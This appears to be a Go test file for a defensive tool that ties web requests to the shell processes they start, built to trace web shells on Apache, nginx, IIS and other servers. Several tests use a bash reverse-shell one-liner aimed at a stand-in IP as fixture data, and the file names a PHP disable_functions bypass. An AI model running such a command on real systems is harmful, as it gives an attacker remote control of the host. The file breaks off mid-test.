package correlate

import (
	"fmt"
	"maps"
	"slices"
	"testing"
	"time"
)

var t0 = time.Date(2026, 11, 25, 19, 2, 24, 0, time.UTC)

func ms(n int) time.Time { return t0.Add(time.Duration(n) * time.Millisecond) }

// Two requests in the same logged second: the parameter in the command
// line tells them apart, whichever arrives first.
func TestEitherOrder(t *testing.T) {
	reqs := []Request{
		{Ref: 1, Time: t0, Path: "/uploads/shell.php", Params: []string{"id"}, Script: true},
		{Ref: 2, Time: t0, Path: "/uploads/shell.php", Params: []string{"uname -a"}, Script: true},
	}
	procs := []Process{
		{Ref: 10, Time: ms(323), ID: "a", Shell: "a", CommandLine: "sh -c id"},
		{Ref: 11, Time: ms(667), ID: "b", Shell: "b", CommandLine: "sh -c uname -a"},
	}
	want := map[int64]int64{10: 1, 11: 2}
	// Requests first.
	c := New(Options{})
	for _, r := range reqs {
		c.AddRequest("h", r)
	}
	for _, p := range procs {
		l, ok := c.AddProcess("h", p)
		if !ok || l.Request != want[p.Ref] {
			t.Errorf("requests first: %s -> %+v %v", p.CommandLine, l, ok)
		}
	}
	// Processes first (a log written when the request ends).
	c = New(Options{})
	for _, p := range procs {
		if _, ok := c.AddProcess("h", p); ok {
			t.Fatalf("linked with no request")
		}
	}
	got := map[int64]int64{}
	for _, r := range reqs {
		for _, l := range c.AddRequest("h", r) {
			got[l.Process] = l.Request
		}
	}
	if got[10] != 1 || got[11] != 2 {
		t.Errorf("processes first: links %v", got)
	}
	// A child of a linked shell inherits the link.
	if l, ok := c.AddProcess("h", Process{Ref: 12, Time: ms(700), ID: "c", Shell: "b", CommandLine: "uname -a"}); !ok || l.Request != 2 {
		t.Errorf("child: %+v %v", l, ok)
	}
}

// Outside the time window, or with another worker pid, nothing links; an
// unmatched process is forgotten after the reorder window.
func TestWindowsAndBounds(t *testing.T) {
	c := New(Options{Reorder: 10 * time.Second, MaxPending: 5})
	c.AddRequest("h", Request{Ref: 1, Time: t0, Path: "/a.php", Params: []string{"whoami"}, Script: true, Worker: 77})
	if _, ok := c.AddProcess("h", Process{Ref: 2, Time: ms(300), ID: "x", Shell: "x", CommandLine: "sh -c whoami", WebPIDs: []int{78}}); ok {
		t.Errorf("linked across workers")
	}
	if _, ok := c.AddProcess("h", Process{Ref: 3, Time: ms(9000), ID: "y", Shell: "y", CommandLine: "sh -c whoami"}); ok {
		t.Errorf("linked 9s after the request")
	}
	for i := 0; i < 100; i++ {
		c.AddProcess("h", Process{Ref: int64(100 + i), Time: ms(20000 + i), ID: "p", Shell: "p"})
	}
	if n := len(c.hosts["h"].procs); n > 5 {
		t.Errorf("%d held processes, bound 5", n)
	}
	c.AddRequest("h", Request{Ref: 9, Time: t0.Add(time.Hour), Path: "/"})
	if n := len(c.hosts["h"].procs) + len(c.hosts["h"].reqs); n != 1 {
		t.Errorf("%d held after the reorder window, want the new request only", n)
	}
}

// An upload is used once: a request logged in the second of the write
// (before it, in event order) counts; a rename of the same file does not
// give a second use.
func TestUploadUse(t *testing.T) {
	c := New(Options{})
	c.AddRequest("h", Request{Ref: 1, Time: t0, Path: "/uploads/shell.php", Params: []string{"whoami"}, Script: true})
	use, ok := c.AddUpload("h", Upload{Time: ms(619), Path: "/srv/www/uploads/shell.php", Writer: "apache2", ByWeb: true})
	if !ok || use.Request != 1 || use.Kind != "request" {
		t.Fatalf("use %+v %v", use, ok)
	}
	if _, ok := c.AddUpload("h", Upload{Time: ms(620), Path: "/srv/www/uploads/shell.php"}); ok {
		t.Errorf("second use from a chmod")
	}
	if _, ok := c.RequestUse("h", Request{Ref: 2, Time: ms(2000), Path: "/uploads/shell.php"}); ok {
		t.Errorf("second use from a later request")
	}
	// IIS: the compiled page names the upload by its base name.
	c.AddUpload("h", Upload{Time: ms(3000), Path: `C:\inetpub\wwwroot\aspnet_client\x.aspx`, Writer: "System"})
	if use, ok := c.Served("h", 10844, "x.aspx", ms(4000), 5); !ok || use.Kind != "compiled" {
		t.Fatalf("compiled use %+v %v", use, ok)
	}
	if s, ok := c.ServedScript("h", []int{10844}, ms(4100)); !ok || s != `C:\inetpub\wwwroot\aspnet_client\x.aspx` {
		t.Errorf("served script %q %v", s, ok)
	}
}

// Two servers on one host: a request logged by one is never linked to a
// process under the other, and php-fpm serves behind either.
func TestServedBy(t *testing.T) {
	for _, tt := range []struct {
		server string
		names  []string
		want   bool
	}{
		{"apache", []string{"apache2", "apache2"}, true},
		{"apache", []string{"nginx"}, false},
		{"nginx", []string{"php-fpm8.2"}, true},
		{"apache", []string{"php-fpm8.2"}, true},
		{"caddy", []string{"php-fpm8.2", "php-fpm8.2"}, true}, // php_fastcgi: Caddy starts no PHP
		{"lighttpd", []string{"php-cgi", "lighttpd"}, true},
		{"lighttpd", []string{"php-fpm8.2"}, true},
		{"caddy", []string{"apache2"}, false},
		{"tomcat", []string{"php-fpm8.2"}, false},
		{"traefik", []string{"apache2"}, true}, // a proxy: whatever is behind it
		{"caddy", []string{"frankenphp"}, true},
		{"nginx", []string{"frankenphp"}, false},
		{"iis", []string{"w3wp.exe"}, true},
		{"iis", []string{"httpd"}, false},
		{"nginx", []string{"node"}, true}, // no access-log server to compare
		{"", []string{"apache2"}, true},
	} {
		if got := servedBy(tt.server, tt.names); got != tt.want {
			t.Errorf("servedBy(%q, %v) = %v, want %v", tt.server, tt.names, got, tt.want)
		}
	}
}

// A time-only link is weak: a request with the command in its parameters,
// logged later, takes the shell over (the upload's POST must not keep the
// first command of the shell it planted).
func TestWeakLinkTakenOver(t *testing.T) {
	c := New(Options{})
	shell := Process{Ref: 10, Time: ms(300), ID: "a", Shell: "a", CommandLine: "sh -c whoami", Cwd: "/var/www/uploads"}
	if _, ok := c.AddProcess("h", shell); ok {
		t.Fatal("linked with no request")
	}
	upload := Request{Ref: 1, Time: t0, Path: "/upload.php", Script: true}
	if links := c.AddRequest("h", upload); len(links) != 1 || links[0].Score >= strong {
		t.Fatalf("upload: links %+v, want one weak link", links)
	}
	cmd := Request{Ref: 2, Time: t0, Path: "/uploads/shell.php", Params: []string{"whoami"}, Script: true}
	links := c.AddRequest("h", cmd)
	if len(links) != 1 || links[0].Request != 2 || links[0].Process != 10 {
		t.Fatalf("command request: links %+v, want it to take the shell", links)
	}
	// The shell's child now inherits the command request.
	if l, ok := c.AddProcess("h", Process{Ref: 11, Time: ms(301), ID: "b", Shell: "a", CommandLine: "whoami"}); !ok || l.Request != 2 {
		t.Errorf("child: %+v %v", l, ok)
	}
}

// One request starts one shell: two requests with the same command (a web
// shell and a backdoored login page) each get their own, told apart by the
// working directory and then by time.
func TestOneShellPerRequest(t *testing.T) {
	c := New(Options{})
	a := Process{Ref: 10, Time: ms(100), ID: "a", Shell: "a", CommandLine: "sh -c whoami", Cwd: "/var/www/site/uploads"}
	b := Process{Ref: 11, Time: ms(900), ID: "b", Shell: "b", CommandLine: "sh -c whoami", Cwd: "/var/www/site"}
	c.AddProcess("h", a)
	c.AddProcess("h", b)
	l1 := c.AddRequest("h", Request{Ref: 1, Time: t0, Path: "/uploads/avatar.php", Params: []string{"whoami"}, Script: true})
	l2 := c.AddRequest("h", Request{Ref: 2, Time: t0, Path: "/login.php", Params: []string{"whoami"}, Script: true})
	if len(l1) != 1 || l1[0].Process != 10 || len(l2) != 1 || l2[0].Process != 11 {
		t.Errorf("links %+v and %+v, want avatar -> a, login -> b", l1, l2)
	}
	// A later shell does not take a request that already explains one.
	if l, ok := c.AddProcess("h", Process{Ref: 12, Time: ms(950), ID: "c", Shell: "c", CommandLine: "sh -c whoami"}); ok {
		t.Errorf("third shell linked to %+v", l)
	}
}

// nginx, IIS, Caddy, lighttpd and Tomcat time a request when it ends,
// Apache when it arrives: a command that runs for seconds starts that long
// before nginx logs its request. It links by its parameter whichever
// arrives first; time alone does not reach that far, and an Apache request
// cannot have started a process seconds before it arrived.
func TestEndStampedRequests(t *testing.T) {
	slow := Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: "sh -c sleep 5; id"}
	logged := t0.Add(5 * time.Second) // the line nginx writes when the command is done
	for _, tc := range []struct {
		name string
		r    Request
		p    Process
		link bool
	}{
		{"nginx, the command in a parameter", Request{Ref: 1, Time: logged, Path: "/up/x.php", Params: []string{"sleep 5; id"}, Script: true, Server: "nginx"}, slow, true},
		{"caddy, the command in a parameter", Request{Ref: 1, Time: logged, Path: "/up/x.php", Params: []string{"sleep 5; id"}, Script: true, Server: "caddy"}, slow, true},
		{"lighttpd, the command in a parameter", Request{Ref: 1, Time: logged, Path: "/up/x.php", Params: []string{"sleep 5; id"}, Script: true, Server: "lighttpd"}, slow, true},
		{"tomcat, the command in a parameter", Request{Ref: 1, Time: logged, Path: "/cmd.jsp", Params: []string{"sleep 5; id"}, Script: true, Server: "tomcat"}, slow, true},
		{"iis, with its time-taken", Request{Ref: 1, Time: logged, Duration: 5200 * time.Millisecond, Path: "/up/x.aspx", Params: []string{"ping -n 5 127.0.0.1"}, Script: true, Server: "iis"},
			Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: `cmd.exe /c ping -n 5 127.0.0.1`}, true},
		{"iis, time-taken shorter than the gap", Request{Ref: 1, Time: logged, Duration: 800 * time.Millisecond, Path: "/up/x.aspx", Params: []string{"ping -n 5 127.0.0.1"}, Script: true, Server: "iis"},
			Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: `cmd.exe /c ping -n 5 127.0.0.1`}, false},
		{"nginx, time alone", Request{Ref: 1, Time: logged, Path: "/up/x.php", Script: true, Server: "nginx"}, slow, false},
		{"nginx, a parameter among the command's words", Request{Ref: 1, Time: logged, Path: "/search.php", Params: []string{"sleep"}, Script: true, Server: "nginx"}, slow, false},
		{"nginx, a parameter among the command's words, in the narrow span", Request{Ref: 1, Time: t0, Path: "/search.php", Params: []string{"sleep"}, Script: true, Server: "nginx"}, slow, true},
		{"apache, the command in a parameter", Request{Ref: 1, Time: logged, Path: "/up/x.php", Params: []string{"sleep 5; id"}, Script: true, Server: "apache"}, slow, false},
		{"nginx, past LongRequest", Request{Ref: 1, Time: t0.Add(6 * time.Minute), Path: "/up/x.php", Params: []string{"sleep 5; id"}, Script: true, Server: "nginx"}, slow, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// Process first, as the audit stream delivers it.
			c := New(Options{})
			if _, ok := c.AddProcess("h", tc.p); ok {
				t.Fatal("linked with no request")
			}
			links := c.AddRequest("h", tc.r)
			if got := len(links) == 1 && links[0].Process == tc.p.Ref; got != tc.link {
				t.Errorf("process first: links %+v, want a link %v", links, tc.link)
			}
			// Request first (a reader of the access log ahead of the audit one).
			c = New(Options{})
			c.AddRequest("h", tc.r)
			l, ok := c.AddProcess("h", tc.p)
			if ok != tc.link || ok && l.Request != tc.r.Ref {
				t.Errorf("request first: %+v %v, want a link %v", l, ok, tc.link)
			}
		})
	}
}

// A reverse shell runs for minutes, and its request is logged when it
// ends: by nginx at the end's time, by Apache at its start's time but
// written then. Once Reorder has passed, the shell is linked only by a
// parameter that is its exact command, for up to LongRequest.
func TestLongRunningShell(t *testing.T) {
	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
	shell := Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: "sh -c " + cmd, WebNames: []string{"php-fpm8.2"}}
	other := func(at time.Time) Process { // the host's other activity moves event time on
		return Process{Ref: 99, Time: at, ID: "z", Shell: "z", CommandLine: "sh -c uptime"}
	}
	for _, tc := range []struct {
		name  string
		r     Request
		quiet bool // no other event between the shell and its request
		link  bool
	}{
		{"nginx, after a minute", Request{Ref: 1, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}, false, true},
		{"nginx, on a quiet host", Request{Ref: 1, Time: t0.Add(45 * time.Second), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}, true, true},
		{"apache, written a minute later", Request{Ref: 1, Time: t0, Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "apache"}, false, true},
		{"nginx, past LongRequest", Request{Ref: 1, Time: t0.Add(6 * time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}, false, false},
		{"nginx, a parameter in the command only", Request{Ref: 1, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{"/dev/tcp/203.0.113.9/4444"}, Script: true, Server: "nginx"}, false, false},
		{"apache, a request that arrived later", Request{Ref: 1, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "apache"}, false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := New(Options{})
			if _, ok := c.AddProcess("h", shell); ok {
				t.Fatal("linked with no request")
			}
			if !tc.quiet {
				c.AddProcess("h", other(tc.r.Time.Add(-time.Second)))
				c.AddProcess("h", other(t0.Add(time.Minute)))
			}
			links := c.AddRequest("h", tc.r)
			got := len(links) == 1 && links[0].Process == shell.Ref
			if got != tc.link {
				t.Fatalf("links %+v, want a link %v", links, tc.link)
			}
			if got && !slices.Contains(links[0].Evidence, "param_in_command_line") {
				t.Errorf("evidence %v", links[0].Evidence)
			}
			// One request starts one shell: the same command again links
			// nothing more, and the shell's children follow its request.
			if got {
				if again := c.AddRequest("h", Request{Ref: 2, Time: tc.r.Time, Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: tc.r.Server}); len(again) != 0 {
					t.Errorf("a second request took the shell: %+v", again)
				}
				if l, ok := c.AddProcess("h", Process{Ref: 11, Time: t0.Add(2 * time.Second), ID: "b", Shell: "a", CommandLine: "id"}); !ok || l.Request != tc.r.Ref {
					t.Errorf("the shell's child: %+v %v", l, ok)
				}
			}
		})
	}
}

func TestLongShellsBounded(t *testing.T) {
	c := New(Options{MaxPending: 50})
	for i := range 200 {
		c.AddProcess("h", Process{Ref: int64(i), Time: t0.Add(time.Duration(i) * time.Millisecond), ID: fmt.Sprint(i), Shell: fmt.Sprint(i), CommandLine: fmt.Sprintf("sh -c sleep %d", i)})
	}
	c.AddProcess("h", Process{Ref: 999, Time: t0.Add(time.Minute), ID: "z", Shell: "z", CommandLine: "sh -c uptime"})
	h := c.hosts["h"]
	n := 0
	for _, ps := range h.long {
		n += len(ps)
	}
	if n != h.longCount || n > 50 {
		t.Errorf("%d long shells (count %d), bound 50", n, h.longCount)
	}
	c.AddProcess("h", Process{Ref: 1000, Time: t0.Add(10 * time.Minute), ID: "y", Shell: "y", CommandLine: "sh -c uptime"})
	if len(h.long) != 0 || h.longCount != 0 {
		t.Errorf("%d long shells (count %d) after LongRequest", len(h.long), h.longCount)
	}
}

// Apache with mod_php and nginx with php-fpm on one host, the same command
// sent to both at once: php-fpm may serve behind Apache too, so Apache's
// request prefers the shell under apache2 itself, whichever request comes
// first, within the reorder window or past it.
func TestOwnServerFirst(t *testing.T) {
	const cmd = "sleep 33; id"
	underApache := Process{Ref: 10, Time: ms(400), ID: "a", Shell: "a", CommandLine: "sh -c " + cmd, WebNames: []string{"apache2", "apache2"}}
	underFPM := Process{Ref: 11, Time: ms(300), ID: "f", Shell: "f", CommandLine: "sh -c " + cmd, WebNames: []string{"php-fpm8.2", "php-fpm8.2"}}
	apache := Request{Ref: 1, Time: t0, Path: "/uploads/long.php", Params: []string{cmd}, Script: true, Server: "apache"}
	nginx := Request{Ref: 2, Time: t0.Add(33 * time.Second), Path: "/uploads/long.php", Params: []string{cmd}, Script: true, Server: "nginx"}
	for _, late := range []bool{false, true} {
		for _, order := range [][]Request{{apache, nginx}, {nginx, apache}} {
			c := New(Options{})
			c.AddProcess("h", underApache)
			c.AddProcess("h", underFPM)
			if late { // the requests come once event time is past the reorder window
				c.AddProcess("h", Process{Ref: 99, Time: t0.Add(time.Minute), ID: "z", Shell: "z", CommandLine: "sh -c uptime"})
			}
			got := map[int64]int64{}
			for _, r := range order {
				for _, l := range c.AddRequest("h", r) {
					got[l.Request] = l.Process
				}
			}
			if got[1] != 10 || got[2] != 11 {
				t.Errorf("late %v, %s first: links %v, want apache's request to apache2's shell (10) and nginx's to php-fpm's (11)", late, order[0].Server, got)
			}
		}
	}
}

// A reverse shell first linked by time alone, to a page served at that
// moment, is taken over by its real request when that is logged minutes
// later with the shell's command as its parameter, as a strong request
// takes a weak link over within the reorder window.
func TestLongShellTakesOverWeakLink(t *testing.T) {
	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
	c := New(Options{})
	shell := Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: "sh -c " + cmd, WebNames: []string{"php-fpm8.2"}}
	if _, ok := c.AddProcess("h", shell); ok {
		t.Fatal("linked with no request")
	}
	page := Request{Ref: 1, Time: t0.Add(200 * time.Millisecond), Path: "/index.php", Script: true, Server: "nginx"}
	if links := c.AddRequest("h", page); len(links) != 1 || links[0].Score >= strong {
		t.Fatalf("the page served with the shell: links %+v, want one weak link", links)
	}
	c.AddProcess("h", Process{Ref: 99, Time: t0.Add(time.Minute), ID: "z", Shell: "z", CommandLine: "sh -c uptime"})
	real := Request{Ref: 2, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}
	links := c.AddRequest("h", real)
	if len(links) != 1 || links[0].Process != shell.Ref || !slices.Contains(links[0].Evidence, "long_running") {
		t.Fatalf("the shell's own request: links %+v", links)
	}
	if l, ok := c.AddProcess("h", Process{Ref: 11, Time: t0.Add(61 * time.Second), ID: "b", Shell: "a", CommandLine: "id"}); !ok || l.Request != real.Ref {
		t.Errorf("the shell's child follows request %d (%v), want %d", l.Request, ok, real.Ref)
	}
}

// A linked shell that keeps running (a detached loop, a reverse shell)
// passes its request on to children for as long as it keeps starting
// them: the link is forgotten ten reorder windows after the shell's last
// child, not after its start.
func TestActiveShellKeepsItsLink(t *testing.T) {
	c := New(Options{})
	r := Request{Ref: 1, Time: t0, Path: "/up/x.php", Params: []string{"nohup sh loop.sh"}, Script: true, Server: "apache"}
	c.AddRequest("h", r)
	if l, ok := c.AddProcess("h", Process{Ref: 10, Time: ms(300), ID: "a", Shell: "a", CommandLine: "sh -c nohup sh loop.sh"}); !ok || l.Request != 1 {
		t.Fatalf("the shell: %+v %v", l, ok)
	}
	for i, at := range []time.Duration{4 * time.Minute, 8 * time.Minute, 12 * time.Minute, 16 * time.Minute} {
		if l, ok := c.AddProcess("h", Process{Ref: int64(11 + i), Time: t0.Add(at), ID: fmt.Sprint("c", i), Shell: "a", CommandLine: "id"}); !ok || l.Request != 1 {
			t.Errorf("a child %v after the shell started: %+v %v", at, l, ok)
		}
	}
	if l, ok := c.AddProcess("h", Process{Ref: 20, Time: t0.Add(16*time.Minute + 10*c.opt.Reorder + time.Second), ID: "late", Shell: "a", CommandLine: "id"}); ok {
		t.Errorf("a child ten reorder windows after the last: linked %+v", l)
	}
}

// A reverse shell's commands run before its request is logged (nginx
// writes it when the shell ends): when the request links the shell, its
// descendants seen so far are linked too, as its later ones are.
func TestLongShellLinksItsEarlierKids(t *testing.T) {
	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
	c := New(Options{})
	c.AddProcess("h", Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: "sh -c " + cmd, WebNames: []string{"php-fpm8.2"}})
	for i, at := range []time.Duration{time.Second, 20 * time.Second, 50 * time.Second} {
		if _, ok := c.AddProcess("h", Process{Ref: int64(11 + i), Time: t0.Add(at), ID: fmt.Sprint("k", i), Shell: "a", CommandLine: "whoami"}); ok {
			t.Fatalf("a descendant of an unlinked shell was linked")
		}
	}
	c.AddProcess("h", Process{Ref: 99, Time: t0.Add(time.Minute), ID: "z", Shell: "z", CommandLine: "sh -c uptime"})
	links := c.AddRequest("h", Request{Ref: 1, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"})
	got := map[int64][]string{}
	for _, l := range links {
		if l.Request != 1 {
			t.Errorf("link to request %d", l.Request)
		}
		got[l.Process] = l.Evidence
	}
	if len(got) != 4 || !slices.Contains(got[10], "long_running") {
		t.Fatalf("links %+v, want the shell (long_running) and its three descendants", links)
	}
	for _, kid := range []int64{11, 12, 13} {
		if !slices.Equal(got[kid], []string{"parent_linked"}) {
			t.Errorf("descendant %d: evidence %v, want [parent_linked]", kid, got[kid])
		}
	}
	// Linked once: another request with the command takes nothing.
	if again := c.AddRequest("h", Request{Ref: 2, Time: t0.Add(time.Minute), Path: "/up/x.php", Params: []string{cmd}, Script: true, Server: "nginx"}); len(again) != 0 {
		t.Errorf("a second request: %+v", again)
	}
}

// The descendants noted are bounded: maxKids per shell, MaxPending shells.
func TestKidsBounded(t *testing.T) {
	c := New(Options{MaxPending: 5})
	for s := range 10 {
		for k := range 2 * maxKids {
			c.AddProcess("h", Process{Ref: int64(1000*s + k), Time: t0, ID: fmt.Sprint(s, "-", k), Shell: fmt.Sprint(s), CommandLine: "id"})
		}
	}
	h := c.hosts["h"]
	if len(h.kids) != 5 {
		t.Errorf("%d shells noted, want 5", len(h.kids))
	}
	for s, k := range h.kids {
		if len(k.refs) != maxKids {
			t.Errorf("shell %s: %d descendants, want %d", s, len(k.refs), maxKids)
		}
	}
	c.AddProcess("h", Process{Ref: 1, Time: t0.Add(c.opt.LongRequest + time.Second), ID: "x", Shell: "x", CommandLine: "sh -c id"})
	if len(h.kids) != 0 {
		t.Errorf("%d shells noted after LongRequest, want 0", len(h.kids))
	}
}

// A shell's child that followed a weak, time-only link follows the shell to
// the request that takes it over: the link is made again for it.
func TestKidsFollowTakeOver(t *testing.T) {
	c := New(Options{})
	c.AddProcess("h", Process{Ref: 10, Time: t0, ID: "a", Shell: "a", CommandLine: "sh -c id", WebNames: []string{"php-fpm8.2"}})
	page := Request{Ref: 1, Time: ms(200), Path: "/index.php", Script: true, Server: "nginx"}
	if links := c.AddRequest("h", page); len(links) != 1 || links[0].Score >= strong {
		t.Fatalf("links %+v, want one weak link", links)
	}
	if l, ok := c.AddProcess("h", Process{Ref: 11, Time: ms(300), ID: "k", Shell: "a", CommandLine: "id"}); !ok || l.Request != 1 {
		t.Fatalf("the child of the weakly linked shell: %+v %v", l, ok)
	}
	real := Request{Ref: 2, Time: ms(900), Path: "/up/x.php", Params: []string{"id"}, Script: true, Server: "nginx"}
	got := map[int64]int64{}
	for _, l := range c.AddRequest("h", real) {
		got[l.Process] = l.Request
	}
	if got[10] != 2 || got[11] != 2 {
		t.Errorf("take-over links %v, want the shell (10) and its child (11) to request 2", got)
	}
	if l, ok := c.AddProcess("h", Process{Ref: 12, Time: ms(950), ID: "k2", Shell: "a", CommandLine: "id"}); !ok || l.Request != 2 {
		t.Errorf("a later child: %+v %v", l, ok)
	}
}

// A POST web shell (China Chopper's eval of the request body): no parameter
// names the command, only the shell's folder ties it to its page, and the
// site's other pages are requested in the same seconds. Three POSTs (two
// logged in one second) each get their shell, in turn, in every order the
// events may arrive: the shells first (the log writes a request when it
// ends), each request just before its shell (the beat's two inputs do not
// keep the first order), and the hunt's time order (InOrder).
func TestPostShellLinks(t *testing.T) {
	const folder = "/var/www/site/uploads/a1"
	post := func(ref int64, at time.Time) Request {
		return Request{Ref: ref, Time: at, Path: "/uploads/a1/image.php", Script: true, Server: "apache"}
	}
	page := func(ref int64, p string, at time.Time) Request {
		return Request{Ref: ref, Time: at, Path: p, Script: true, Server: "apache"}
	}
	shell := func(ref int64, at int) Process {
		id := fmt.Sprint("s", ref)
		return Process{Ref: ref, Time: ms(at), ID: id, Shell: id, CommandLine: "sh -c id", Cwd: folder, WebNames: []string{"apache2"}}
	}
	p1, p2, p3 := post(1, t0), post(2, t0), post(3, ms(1000))
	index, login, login2 := page(4, "/index.php", t0), page(5, "/login.php", t0), page(6, "/login.php", ms(1000))
	s1, s2, s3 := shell(10, 300), shell(11, 650), shell(12, 1100)
	for _, tc := range []struct {
		name    string
		inOrder bool
		events  []any
	}{
		{"shells first", false, []any{s1, s2, s3, index, p1, login, p2, p3, login2}},
		{"each request just before its shell", false, []any{index, p1, s1, login, p2, s2, p3, login2, s3}},
		{"a page before the POSTs", false, []any{s1, index, s2, login, p1, p2, s3, p3, login2}},
		{"hunt", true, []any{p1, p2, index, login, s1, s2, p3, login2, s3}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := feed(New(Options{InOrder: tc.inOrder}), tc.events)
			if want := map[int64]int64{10: 1, 11: 2, 12: 3}; !maps.Equal(got, want) {
				t.Errorf("links (shell: request) %v, want %v", got, want)
			}
		})
	}
}

// feed adds events (Request or Process) to c in order and returns the last
// link made of each process: process ref -> request ref.
func feed(c *Correlator, events []any) map[int64]int64 {
	got := map[int64]int64{}
	for _, e := range events {
		switch e := e.(type) {
		case Request:
			for _, l := range c.AddRequest("h", e) {
				got[l.Process] = l.Request
			}
		case Process:
			for _, l := range c.AddProcessAll("h", e) {
				got[l.Process] = l.Request
			}
		}
	}
	return got
}

// Each shell starts late for its POST (a slow machine: 400 ms after the
// request arrived), so that a shell is nearer in time to the next POST's
// logged second than to its own. Arriving each just before its request's
// line, the shells must not go round by one: a later request for the same
// page takes no weak link over (when a nearer time could, POST 1 got shell
// 12, 2 got 10 and 3 got 11).
func TestPostShellsStartLate(t *testing.T) {
	post := func(ref int64, at int) Request {
		return Request{Ref: ref, Time: ms(at).Truncate(time.Second), Path: "/uploads/a1/image.php", Script: true, Server: "apache"}
	}
	shell := func(ref int64, at int) Process {
		id := fmt.Sprint("s", ref)
		return Process{Ref: ref, Time: ms(at), ID: id, Shell: id, CommandLine: "sh -c id", Cwd: "/var/www/site/uploads/a1", WebNames: []string{"apache2"}}
	}
	// POSTs arrive at 900, 1400 and 1800 ms; their shells start 400 ms later.
	got := feed(New(Options{}), []any{shell(10, 1300), post(1, 900), shell(11, 1800), post(2, 1400), shell(12, 2200), post(3, 1800)})
	if want := map[int64]int64{10: 1, 11: 2, 12: 3}; !maps.Equal(got, want) {
		t.Errorf("links (shell: request) %v, want %v", got, want)
	}
}

// A shell late in one logged second is nearer its own request than the
// next second's: a weak link is not taken over by the next request for the
// same page (the time bonus counts from the logged second, not its start).
func TestWeakLinkKeptAcrossSecond(t *testing.T) {
	c := New(Options{})
	s := Process{Ref: 10, Time: ms(950), ID: "a", Shell: "a", CommandLine: "sh -c id", Cwd: "/var/www/site/up", WebNames: []string{"apache2"}}
	c.AddProcess("h", s)
	if links := c.AddRequest("h", Request{Ref: 1, Time: t0, Path: "/up/x.php", Script: true, Server: "apache"}); len(links) != 1 {
		t.Fatalf("links %+v, want one", links)
	}
	if links := c.AddRequest("h", Request{Ref: 2, Time: ms(1000), Path: "/up/x.php", Script: true, Server: "apache"}); len(links) != 0 {
		t.Errorf("the next second's request took the shell: %+v", links)
	}
}

// Where the web server above a shell is not known (a hunt of an audit log
// whose workers never exec'd) and two sites have a folder of the same name,
// their pages explain the shell equally: no weak link is made.
func TestSameFolderTwoSites(t *testing.T) {
	c := New(Options{InOrder: true})
	c.AddRequest("h", Request{Ref: 1, Time: t0, Path: "/uploads/a.php", Script: true, Server: "apache"})
	c.AddRequest("h", Request{Ref: 2, Time: t0, Path: "/uploads/b.php", Script: true, Server: "nginx"})
	s := Process{Ref: 10, Time: ms(300), ID: "a", Shell: "a", CommandLine: "sh -c id", Cwd: "/var/www/two/uploads", Inferred: true, WebNames: []string{""}}
	if l, ok := c.AddProcess("h", s); ok {
		t.Errorf("linked to %+v", l)
	}
}

// In a hunt (InOrder) a page's request comes before the shell it started,
// and a shell with only time to go by is linked when it arrives, if its
// page is the only candidate (status.php running uptime). Live, the shell
// waits: a request held when it arrives is usually an earlier one.
func TestInOrderTimeLink(t *testing.T) {
	status := Request{Ref: 1, Time: t0, Path: "/status.php", Script: true, Server: "apache"}
	s := Process{Ref: 10, Time: ms(700), ID: "a", Shell: "a", CommandLine: "sh -c /usr/bin/uptime", Cwd: "/var/www/site", WebNames: []string{"apache2"}}
	for _, inOrder := range []bool{true, false} {
		c := New(Options{InOrder: inOrder})
		c.AddRequest("h", status)
		l, ok := c.AddProcess("h", s)
		if ok != inOrder || ok && (l.Request != 1 || l.Score >= strong) {
			t.Errorf("InOrder %v: %+v %v, want a weak link %v", inOrder, l, ok, inOrder)
		}
	}
}

// PHP's mail() bypass of disable_functions (bypass_disablefunc.php, as
// TestLiveMailBypass runs it): the request's command runs in a child of the
// sendmail shell that PHP starts, not in that shell. The parameter found in
// the child links the shell, the child and its sibling, whichever of the
// request and the processes comes first; a request whose parameters no
// process carries links nothing.
func TestParamInDescendant(t *testing.T) {
	req := Request{Ref: 1, Time: t0, Path: "/uploads/bypass.php", Params: []string{"id", "/tmp/o", "/tmp/x.so"}, Script: true, Server: "apache"}
	proc := func(ref int64, at int, id, cmd string) Process {
		return Process{Ref: ref, Time: ms(at), ID: id, Shell: "s", CommandLine: cmd, Cwd: "/var/www/site/uploads", WebNames: []string{"apache2"}}
	}
	procs := []Process{
		proc(10, 300, "s", "sh -c /usr/sbin/sendmail -t -i"),
		proc(11, 304, "k", "sh -c id > /tmp/o 2>&1"),
		proc(12, 305, "i", "id"), // the whole command, but the first that carries it is sh -c
		proc(13, 310, "m", "/usr/sbin/sendmail -t -i"),
	}
	want := map[int64]string{
		10: "param_in_descendant",
		11: "parent_linked param_in_command_line",
		12: "parent_linked",
		13: "parent_linked",
	}
	for _, order := range []string{"request last", "request first", "request between"} {
		c := New(Options{})
		got := map[int64]string{}
		note := func(links []Link) {
			for _, l := range links {
				if l.Request != 1 {
					t.Errorf("%s: process %d linked to request %d", order, l.Process, l.Request)
				}
				got[l.Process] = l.Evidence[0]
				if l.Evidence[0] == "parent_linked" && len(l.Evidence) > 1 {
					got[l.Process] += " " + l.Evidence[1]
				}
			}
		}
